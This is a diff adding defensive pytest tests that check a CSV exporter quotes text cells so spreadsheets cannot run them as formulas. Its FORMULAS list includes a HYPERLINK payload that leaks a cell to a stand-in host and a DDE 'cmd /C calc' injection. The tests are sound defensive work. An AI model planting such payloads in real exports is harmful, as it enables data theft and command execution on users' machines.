@@ -1,9 +1,11 @@
-"""CSV export and import of sessions and decisions: round trip, and bad rows named by line."""
+"""CSV export and import of sessions and decisions: round trip, bad rows named by line,
+and no text cell a spreadsheet would run as a formula."""
 
 from __future__ import annotations
 
 import csv
 import io
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta, timezone
 
 import pytest
@@ -16,8 +18,10 @@ from spinestep.interop.csv_io import (
     DECISION_COLUMNS,
     SESSION_COLUMNS,
     decisions_csv,
+    plain_text,
     read_csv,
     sessions_csv,
+    spreadsheet_text,
 )
 from spinestep.services.record_types import SessionEntry
 from tests.interop.sample_records import sample_records
@@ -136,3 +140,93 @@ _sessions = st.builds(
 def test_any_sessions_survive_the_csv_round_trip(records: list[SessionRecord]) -> None:
     sessions = tuple(SessionEntry(id=str(i + 1), record=r) for i, r in enumerate(records))
     assert read_csv(sessions_csv(sessions)).sessions == sessions
+
+
+FORMULAS = [
+    '=HYPERLINK("https://example.invalid/?leak="&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+]
+"""Text beginning with each character a spreadsheet may run as a formula, and with the
+quote that marks a neutralised cell."""
+SESSION_TEXT = {"session_id", "at", "completed", "effort", "location_before", "location_after"}
+SESSION_NUMBERS = {"stage", "reps", "pain_before", "pain_during", "pain_after"}
+DECISION_TEXT = {"decision_id", "at", "decision", "urgency", "rules", "message", "rules_version"}
+DECISION_NUMBERS = {"current_stage", "next_stage"}
+
+
+def table(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def assert_no_formula(rows: list[dict[str, str]], text_columns: set[str]) -> None:
+    for row in rows:
+        for column in text_columns:
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_decision_text_beginning_like_a_formula_is_exported_as_text(formula: str) -> None:
+    decisions = tuple(
+        replace(d, id=formula, message=formula, rules=(formula,), rules_version=formula)
+        for d in sample_records().decisions
+    )
+    rows = table(decisions_csv(decisions))
+    assert set(rows[0]) == DECISION_TEXT | DECISION_NUMBERS
+    assert_no_formula(rows, DECISION_TEXT)
+    for row in rows:
+        for column in ("decision_id", "message", "rules", "rules_version"):
+            assert row[column] == "'" + formula
+            assert plain_text(row[column]) == formula
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_session_id_beginning_like_a_formula_is_exported_as_text_and_read_back(
+    formula: str,
+) -> None:
+    sessions = tuple(
+        replace(entry, id=f"{formula}{i}") for i, entry in enumerate(sample_records().sessions)
+    )
+    text = sessions_csv(sessions)
+    rows = table(text)
+    assert set(rows[0]) == SESSION_TEXT | SESSION_NUMBERS
+    assert_no_formula(rows, SESSION_TEXT)
+    assert [row["session_id"] for row in rows] == [f"'{entry.id}" for entry in sessions]
+    read = read_csv(text).sessions
+    # The reader strips spaces around an id, so a leading tab or CR does not come back.
+    assert [entry.id for entry in read] == [entry.id.strip() for entry in sessions]
+    assert [entry.record for entry in read] == [entry.record for entry in sessions]
+
+
+def test_text_that_only_contains_formula_characters_is_left_alone() -> None:
+    decisions = tuple(
+        replace(d, message="pain 3 = fine, +1 - 2 @ home") for d in sample_records().decisions
+    )
+    rows = table(decisions_csv(decisions))
+    assert {row["message"] for row in rows} == {"pain 3 = fine, +1 - 2 @ home"}
+
+
+def test_numbers_are_written_as_numbers_even_when_negative() -> None:
+    decisions = tuple(
+        replace(d, current_stage=-5, next_stage=-1 if d.next_stage else None)
+        for d in sample_records().decisions
+    )
+    rows = table(decisions_csv(decisions))
+    assert [row["current_stage"] for row in rows] == ["-5", "-5"]
+    assert [row["next_stage"] for row in rows] == ["-1", ""]
+    rows = table(sessions_csv(sample_records().sessions))
+    for row in rows:
+        for column in SESSION_NUMBERS:
+            assert row[column] == "" or str(int(row[column])) == row[column]
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text())
+def test_any_text_survives_neutralising(text: str) -> None:
+    cell = spreadsheet_text(text)
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert plain_text(cell) == text
